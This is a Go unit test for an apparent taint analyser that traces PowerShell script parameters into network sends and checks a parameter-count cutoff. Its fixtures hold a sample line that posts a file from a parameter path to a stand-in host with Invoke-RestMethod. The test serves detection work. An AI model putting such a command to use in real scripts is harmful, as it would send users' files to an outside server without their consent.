package loose

import (
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/way"
	"github.com/skillctl/skillctl/internal/document"
)

// TestGiven: what a script of PowerShell is run with comes to what it sends, and a script with
// more lists of parameters than are read is not followed to its end.
func TestGiven(t *testing.T) {
	send := "\nInvoke-RestMethod 'https://x.example/in' -Method Post -InFile $Path\n"
	for name, c := range map[string]struct {
		text string
		sent bool
		cut  bool
	}{
		"a parameter":   {"param([string]$Path)" + send, true, false},
		"another one":   {"param([string]$Name)" + send, false, false},
		"too many":      {strings.Repeat("function A { param($a) }\n", maxParams) + "param($Path)" + send, false, true},
		"just not that": {"param($Path)\n" + strings.Repeat("function A { param($a) }\n", maxParams-1) + send, true, false},
	} {
		t.Run(name, func(t *testing.T) {
			found := Follow(way.Text{File: "a.ps1", Language: "powershell", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil)
			sent := false
			for _, one := range found.Chains {
				sent = sent || one.Source.Kind == way.Argument && one.Sink.Kind == "send"
			}
			if sent != c.sent || found.Cut != c.cut {
				t.Errorf("sent %v, cut %v; want %v, %v", sent, found.Cut, c.sent, c.cut)
			}
		})
	}
}
